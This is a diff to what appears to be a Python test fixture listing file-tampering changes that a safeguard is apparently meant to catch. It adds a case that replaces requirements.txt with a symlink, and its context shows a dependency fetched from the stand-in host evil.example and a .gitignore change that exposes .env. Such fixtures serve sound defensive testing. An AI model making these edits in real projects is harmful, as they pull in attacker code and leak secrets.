@@ -261,6 +261,10 @@ CHANGES = {
         "P('requirements.txt').write_text('a @ https://evil.example/a.whl\\n')",
         "requirements.txt",
     ),
+    "a list of requirements that becomes a link": (
+        "P('requirements.txt').unlink(); P('requirements.txt').symlink_to('docs/guide.md')",
+        "requirements.txt",
+    ),
     "a file of secrets that is ignored no more": (
         "P('.gitignore').write_text(P('.gitignore').read_text() + '!.env\\n')",
         ".gitignore",
